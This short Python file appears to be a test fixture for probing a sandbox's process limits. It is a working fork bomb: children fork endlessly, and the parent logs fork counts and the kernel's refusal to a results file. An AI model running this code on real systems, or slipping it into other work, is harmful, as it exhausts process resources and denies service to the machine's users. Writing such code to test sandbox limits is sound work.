# Hostile: a fork bomb. The first process forks until the kernel refuses, records how far it got
# and why it stopped, then keeps the bomb going; every child forks forever, and when refused
# retries a moment later (so that the first process gets the CPU to write down what it saw).
import errno, json, os, time

forked, refusals, error = 0, 0, None
while refusals < 20:
    try:
        pid = os.fork()
    except OSError as e:
        refusals += 1
        error = errno.errorcode.get(e.errno, str(e))
        continue
    if pid == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.1)
    forked += 1
processes = len([p for p in os.listdir("/proc") if p.isdigit()])
with open("/data/outputs/result.json", "w") as out:
    json.dump({"forked": forked, "error": error, "processes": processes}, out, sort_keys=True)
print("bomb holding", processes, "processes", flush=True)
while True:
    time.sleep(1)
